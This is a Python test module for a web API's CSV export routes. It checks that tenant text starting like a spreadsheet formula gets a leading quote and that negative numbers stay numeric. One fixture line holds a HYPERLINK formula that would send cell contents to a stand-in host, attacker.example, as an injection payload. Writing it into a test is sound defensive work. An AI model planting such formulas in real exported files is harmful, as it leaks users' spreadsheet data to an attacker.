"""CSV injection (issue 22, item 2): every CSV download — the job list, a job's front and
history, a sweep's cell table and its jobs — writes the tenant's text (job names, tags, robot
names, swept values, baseline and objective names) behind a ``'`` when it starts like a
spreadsheet formula (``= + - @``, a tab, a carriage return), while numbers, negative ones
included, stay numbers. The jobs are finished through the store as a worker finishes them (no
optimisation)."""

from __future__ import annotations

import csv
import io
from typing import Any

from api_helpers import new_key
from fastapi.testclient import TestClient

from legcore.robots import Robot, catalog
from legcore.studies.registry import studies
from services.api.deps import ApiContext
from services.api.export_formats import csv_cell, encode
from services.store.lifecycle import claim_job, fail_job, finish_job
from services.store.progress import record_generation
from services.store.records import BaselineIn, ParetoPointIn, ResultIn

API = "/api/v1"
HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click")'
#: Tenant text a spreadsheet would run, one per formula start OWASP names.
FORMULAS = [HYPERLINK, "+1", "-1+2", "@SUM(1)", "\t=1+1", "\r=1+1"]
#: The objectives every finished job reports (minimised; negative: a maximised quantity).
NAMES = ["-gain", "time"]


def serial_study() -> tuple[str, dict[str, Any]]:
    """A study kind whose default robot is serial, and that robot as an inline spec."""
    for kind in sorted(studies()):
        robot = catalog.get(studies()[kind].default_robot)
        if isinstance(robot, Robot):
            return kind, robot.spec.model_dump(mode="json")
    raise AssertionError("no study with a serial default robot")


def _rows(response: Any) -> list[list[str]]:
    assert response.status_code == 200, response.text
    assert response.headers["content-type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.text, newline="")))


def _finish(ctx: ApiContext, job_id: str, *, baseline: str = "seed") -> None:
    """Claim, record two generations and finish ``job_id`` with negative objectives."""
    with ctx.write() as s:
        assert claim_job(s, job_id, "w1", 60.0) is not None
    for g in range(2):
        with ctx.write() as s:
            record_generation(s, job_id, "w1", generation=g, n_evals=4 * (g + 1),
                              best=[-1.5 - g, -2.0], wall_time_s=0.25,
                              front=[[-1.5 - g, -2.0], [-1.0, -2.5]])  # fmt: skip
    with ctx.write() as s:
        finish_job(
            s, job_id, "w1",
            result=ResultIn(
                best_x=[-0.1, 0.2],
                objectives={"names": NAMES, "values": {"-gain": -2.5, "time": -2.0}},
                metrics={"gain": 2.5},
                summary={"table": []},
            ),
            pareto=[ParetoPointIn(0, [-0.1, 0.2], [-2.5, -2.0]),
                    ParetoPointIn(1, [-0.3, 0.1], [-1.0, -2.5])],
            baselines=[BaselineIn(baseline, {"objectives": {"-gain": -0.5, "time": 1.0}})],
        )  # fmt: skip


#: The CSV downloads this module checks: every route of the app that writes a table.
EXPORTS = {
    f"{API}/export/jobs",
    f"{API}/jobs/{{job_id}}/front/export",
    f"{API}/jobs/{{job_id}}/history/export",
    f"{API}/sweeps/{{sweep_id}}/cells/export",
    f"{API}/sweeps/{{sweep_id}}/jobs/export",
}


def test_these_are_all_the_downloads(client: TestClient) -> None:
    paths = client.get(f"{API}/openapi.json").json()["paths"]
    tables = {
        path for path, ops in paths.items()
        if "text/csv; charset=utf-8" in ops.get("get", {}).get("responses", {}).get("200", {})
        .get("content", {})
    }  # fmt: skip
    assert tables == EXPORTS


def test_the_csv_cell_helper_neutralises_text_only() -> None:
    for text in FORMULAS:
        assert csv_cell(text) == "'" + text
    for safe in ("plain", "1+1", "", "'=already quoted", " =spaced"):
        assert csv_cell(safe) == safe
    assert csv_cell(-1.5) == -1.5 and csv_cell(-3) == -3 and csv_cell(True) is True
    assert csv_cell(None) == "" and csv_cell(float("nan")) == ""
    assert csv_cell(["=x", -1]) == '["=x",-1]'  # JSON text starts with its bracket
    # a lone carriage return inside a cell is quoted (rows end in CRLF): no row can be forged
    raw = b"".join(encode("csv", ["a", "b"], [("x\r=1+1", -1.5)])).decode()
    assert raw == 'a,b\r\n"x\r=1+1",-1.5\r\n'
    assert list(csv.reader(io.StringIO(raw, newline=""))) == [["a", "b"], ["x\r=1+1", "-1.5"]]


def test_the_job_list_front_and_history_exports_neutralise_formulas(
    client: TestClient, ctx: ApiContext, alice: dict[str, str]
) -> None:
    kind, robot = serial_study()
    ids = []
    for i, name in enumerate(FORMULAS):
        spec = {"name": name, "tags": ["-1:2", "ok"], "problem": {"kind": kind},
                "robot": {**robot, "name": "@SUM(1)"} if i == 0 else None}  # fmt: skip
        r = client.post(f"{API}/jobs", json=spec, headers=alice)
        assert r.status_code == 202, r.text
        ids.append(r.json()["id"])
    _finish(ctx, ids[0], baseline=HYPERLINK)
    with ctx.write() as s:
        fail_job(s, ids[1], None, "@SUM(A1:A9) is not a number")

    rows = _rows(client.get(f"{API}/export/jobs?format=csv", headers=alice))
    header, by_id = rows[0], {r[0]: dict(zip(rows[0], r, strict=True)) for r in rows[1:]}
    assert set(by_id) == set(ids)
    for job_id, name in zip(ids, FORMULAS, strict=True):
        assert by_id[job_id]["name"] == "'" + name, by_id[job_id]
        assert by_id[job_id]["tags"] == "'-1:2,ok"
    first = by_id[ids[0]]
    assert first["robot"] == "'@SUM(1)" and first["status"] == "succeeded"
    assert first["best"] == "-2.5"  # a number: as written, no quote
    assert by_id[ids[1]]["error"] == "'@SUM(A1:A9) is not a number"
    assert "seed" in header and by_id[ids[0]]["seed"] == "0"

    rows = _rows(client.get(f"{API}/jobs/{ids[0]}/front/export?format=csv", headers=alice))
    header = rows[0]
    assert header[:3] == ["index", "'-gain", "time [s]"]  # the objectives' names are text too
    points = [dict(zip(header, r, strict=True)) for r in rows[1:]]
    assert [(p["index"], p["'-gain"], p["time [s]"], p["x1"]) for p in points[:2]] == [
        ("0", "-2.5", "-2.0", "-0.1"), ("1", "-1.0", "-2.5", "-0.3"),
    ]  # fmt: skip
    assert points[-1]["baseline"] == "'" + HYPERLINK and points[-1]["'-gain"] == "-0.5"

    rows = _rows(client.get(f"{API}/jobs/{ids[0]}/history/export?format=csv", headers=alice))
    history = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [h["compromise_-gain"] for h in history] == ["-1.5", "-2.5"]
    assert [h["best_-gain"] for h in history] == ["-1.5", "-2.5"]
    assert history[0]["best_time [s]"] == "-2.5" and history[0]["wall_time_s [s]"] == "0.25"


def test_the_cell_table_export_neutralises_swept_text(
    client: TestClient, ctx: ApiContext, alice: dict[str, str]
) -> None:
    kind, _robot = serial_study()
    body = {"base": {"problem": {"kind": kind}, "record": False},
            "grid": {"name": FORMULAS}, "seeds": [1, 2]}  # fmt: skip
    r = client.post(f"{API}/sweeps", json=body, headers=alice)
    assert r.status_code == 202, r.text
    sweep_id, job_ids = r.json()["id"], r.json()["job_ids"]
    for job_id in job_ids:
        _finish(ctx, job_id)
    rows = _rows(client.get(f"{API}/sweeps/{sweep_id}/cells/export?format=csv", headers=alice))
    cells = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [c["name"] for c in cells] == ["'" + f for f in FORMULAS]
    assert all(c["seeds"] == "[1,2]" and c["succeeded"] == "2" for c in cells)
    assert rows[0][5:7] == ["'-gain_mean", "'-gain_sd"]  # header cells are text too
    assert {c["'-gain_mean"] for c in cells} == {"-2.5"}  # numbers stay numbers
    assert {c["time_mean [s]"] for c in cells} == {"-2.0"}
    rows = _rows(client.get(f"{API}/sweeps/{sweep_id}/jobs/export?format=csv", headers=alice))
    jobs = [dict(zip(rows[0], r, strict=True)) for r in rows[1:]]
    assert [j["name"] for j in jobs] == ["'" + f for f in FORMULAS for _ in (1, 2)]
    assert {j["'-gain"] for j in jobs} == {"-2.5"} and {j["time [s]"] for j in jobs} == {"-2.0"}
    # another key sees none of it
    bob = {"X-API-Key": new_key(ctx, "bob")[0]}
    for what in ("cells", "jobs"):
        r = client.get(f"{API}/sweeps/{sweep_id}/{what}/export", headers=bob)
        assert r.status_code == 404
